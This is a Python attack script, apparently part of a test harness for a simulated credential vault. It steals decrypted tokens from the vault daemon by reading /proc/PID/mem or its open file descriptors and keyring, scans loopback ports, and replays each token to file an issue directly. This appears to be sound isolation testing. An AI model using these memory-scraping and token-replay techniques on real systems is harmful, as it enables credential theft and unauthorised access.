"""Hostile: take the credentials out of the vault daemon's memory (or its open files).

    read_memory.py --title T [--fds]

First a harmless read through the vault, so the daemon has the credentials
decrypted in memory. Then finds the daemon (the peer of VAULTSIM_SOCKET, by
SO_PEERCRED; failing that, a process whose command line says vault and
daemon), reads its memory through
/proc/PID/mem, picks out every token-looking string and the remote's URL, and
files the issue at the remote directly with each token until one works. With
--fds it reads the daemon's open files instead (/proc/PID/fd) to find the
vault home, then the keyring beside it. Without a daemon in sight (a jail)
it looks for the remote on the loopback ports. Last resort: the vault.
"""

import argparse
import os
import sys

import _contract as c
import _loot


def find_daemon() -> int | None:
    pid = _loot.peer_pid(os.environ["VAULTSIM_SOCKET"])
    if pid > 0 and os.path.exists(f"/proc/{pid}"):
        return pid
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                cmd = f.read()
        except OSError:
            continue
        if b"vault" in cmd and b"daemon" in cmd:
            return int(entry)
    return None


def loot_memory(pid: int) -> tuple[set[str], set[str]]:
    mem = _loot.read_memory(pid)
    return ({t.decode() for t in _loot.TOKEN_RE.findall(mem)},
            {u.decode() for u in _loot.URL_RE.findall(mem)})


def loot_fds(pid: int) -> tuple[set[str], set[str]]:
    homes = set()
    for fd in os.listdir(f"/proc/{pid}/fd"):
        target = os.readlink(f"/proc/{pid}/fd/{fd}")
        if target.endswith(("audit.log", "credentials.enc", "daemon.lock")):
            homes.add(os.path.dirname(target))
    tokens, urls = set(), set()
    for home in homes:
        key = _loot.data_key(home)
        if key is not None:
            tokens |= set(_loot.credentials(home, key).values())
        url = _loot.remote_url(home)
        if url:
            urls.add(url)
    return tokens, urls


def main() -> int:
    p = argparse.ArgumentParser()
    p.add_argument("--title", required=True)
    p.add_argument("--fds", action="store_true")
    args = p.parse_args()
    tokens: set[str] = set()
    urls: set[str] = set()
    agent = c.Agent("reader")
    agent.call("read_issue", {"issue_id": "ISS-1"}, wait_s=5)  # now the daemon holds the token in memory
    pid = find_daemon()
    try:
        if pid is not None:
            tokens, urls = loot_fds(pid) if args.fds else loot_memory(pid)
    except OSError as exc:
        c.note(f"could not read the daemon: {type(exc).__name__}")
    if not urls:
        urls = {f"http://127.0.0.1:{port}" for port in _loot.scan_loopback(32768, 60999)}
    c.note(f"daemon {pid}: {len(tokens)} token(s), {len(urls)} url(s)")
    for url in sorted(urls)[:20]:
        for token in sorted(tokens) or [""]:
            try:
                status, _ = _loot.request(url, "POST", "/v1/issues", {"title": args.title},
                                          {"Authorization": f"Bearer {token}"} if token else {}, timeout=1.0)
            except OSError:
                break
            if status < 300:
                c.say("done: filed the issue")
                return 0
    r = agent.call("create_issue", {"title": args.title}, wait_s=5)
    c.say("done: filed the issue" if r.get("ok") else f"not done: {r.get('category')}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
